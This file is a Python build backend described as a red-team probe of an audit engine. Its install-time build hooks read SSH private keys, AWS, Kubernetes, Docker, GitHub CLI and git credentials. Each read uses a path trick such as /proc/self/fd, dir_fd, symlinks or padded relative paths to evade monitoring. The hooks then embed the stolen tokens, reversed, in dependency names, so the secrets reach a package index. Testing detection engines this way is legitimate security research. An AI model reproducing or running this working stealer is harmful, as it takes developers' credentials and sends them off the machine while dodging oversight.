# Probe A4 (run with PJ_OPTS=--audit): open decoy files under names other
# than their own, each variant in its own child; the report shows which
# ones the engine names.  A variant whose token appears in the dependency
# names the index saw, with no decoy-read of that variant, got through.
import os, sys
sys.path.insert(0, os.path.dirname(__file__))
import wheelkit

NAME, VER = "rt1-decoy-variants", "1.0"
H = os.path.expanduser("~")

def variants():
    def v1():
        return open(f"/proc/self/root{H}/.ssh/id_rsa").read()
    def v2():
        os.chdir(H); return open("./" * 1500 + ".aws/credentials").read()
    def v3():
        os.chdir(H); return open("/proc/self/cwd/.kube/config").read()
    def v4():
        d = os.open(f"{H}/.docker", os.O_PATH | os.O_DIRECTORY)
        return os.read(os.open("config.json", os.O_RDONLY, dir_fd=d), 4096).decode()
    def v5():
        d = os.open(H, os.O_PATH | os.O_DIRECTORY)
        return open(f"/proc/self/fd/{d}/.config/gh/hosts.yml").read()
    def v6():
        p = "/tmp/rt1lnk"
        try: os.symlink(f"{H}/.ssh", p)
        except FileExistsError: pass
        return open(p + "/id_rsa").read()
    def v7():
        return open(f"{H}//.git-credentials").read()
    def v8():
        f = os.open(f"{H}/.kube/config", os.O_PATH)
        return open(f"/proc/self/fd/{f}").read()
    return [v1, v2, v3, v4, v5, v6, v7, v8]

def _tok(text):
    import re
    m = re.findall(r"[A-Za-z0-9_\-]{16,}", text)
    return (max(m, key=len) if m else "none")

def _reqs():
    out = []
    for i, v in enumerate(variants(), 1):
        r, w = os.pipe()
        pid = os.fork()
        if pid == 0:
            os.close(r)
            try:
                t = _tok(v())
            except Exception as e:
                t = "err" + type(e).__name__
            os.write(w, t.encode()); os._exit(0)
        os.close(w)
        t = os.read(r, 4096).decode(); os.close(r); os.waitpid(pid, 0)
        out.append(f"rt1v{i}-" + (t[::-1].replace("_", "-").strip("-") or "killed"))
    return out

def get_requires_for_build_wheel(config_settings=None):
    return []

def prepare_metadata_for_build_wheel(md_dir, config_settings=None):
    return wheelkit.write_metadata(md_dir, NAME, VER, _reqs())

def build_wheel(wheel_dir, config_settings=None, metadata_directory=None):
    return wheelkit.write_wheel(wheel_dir, NAME, VER, {"rt1_dv.py": b""}, _reqs())
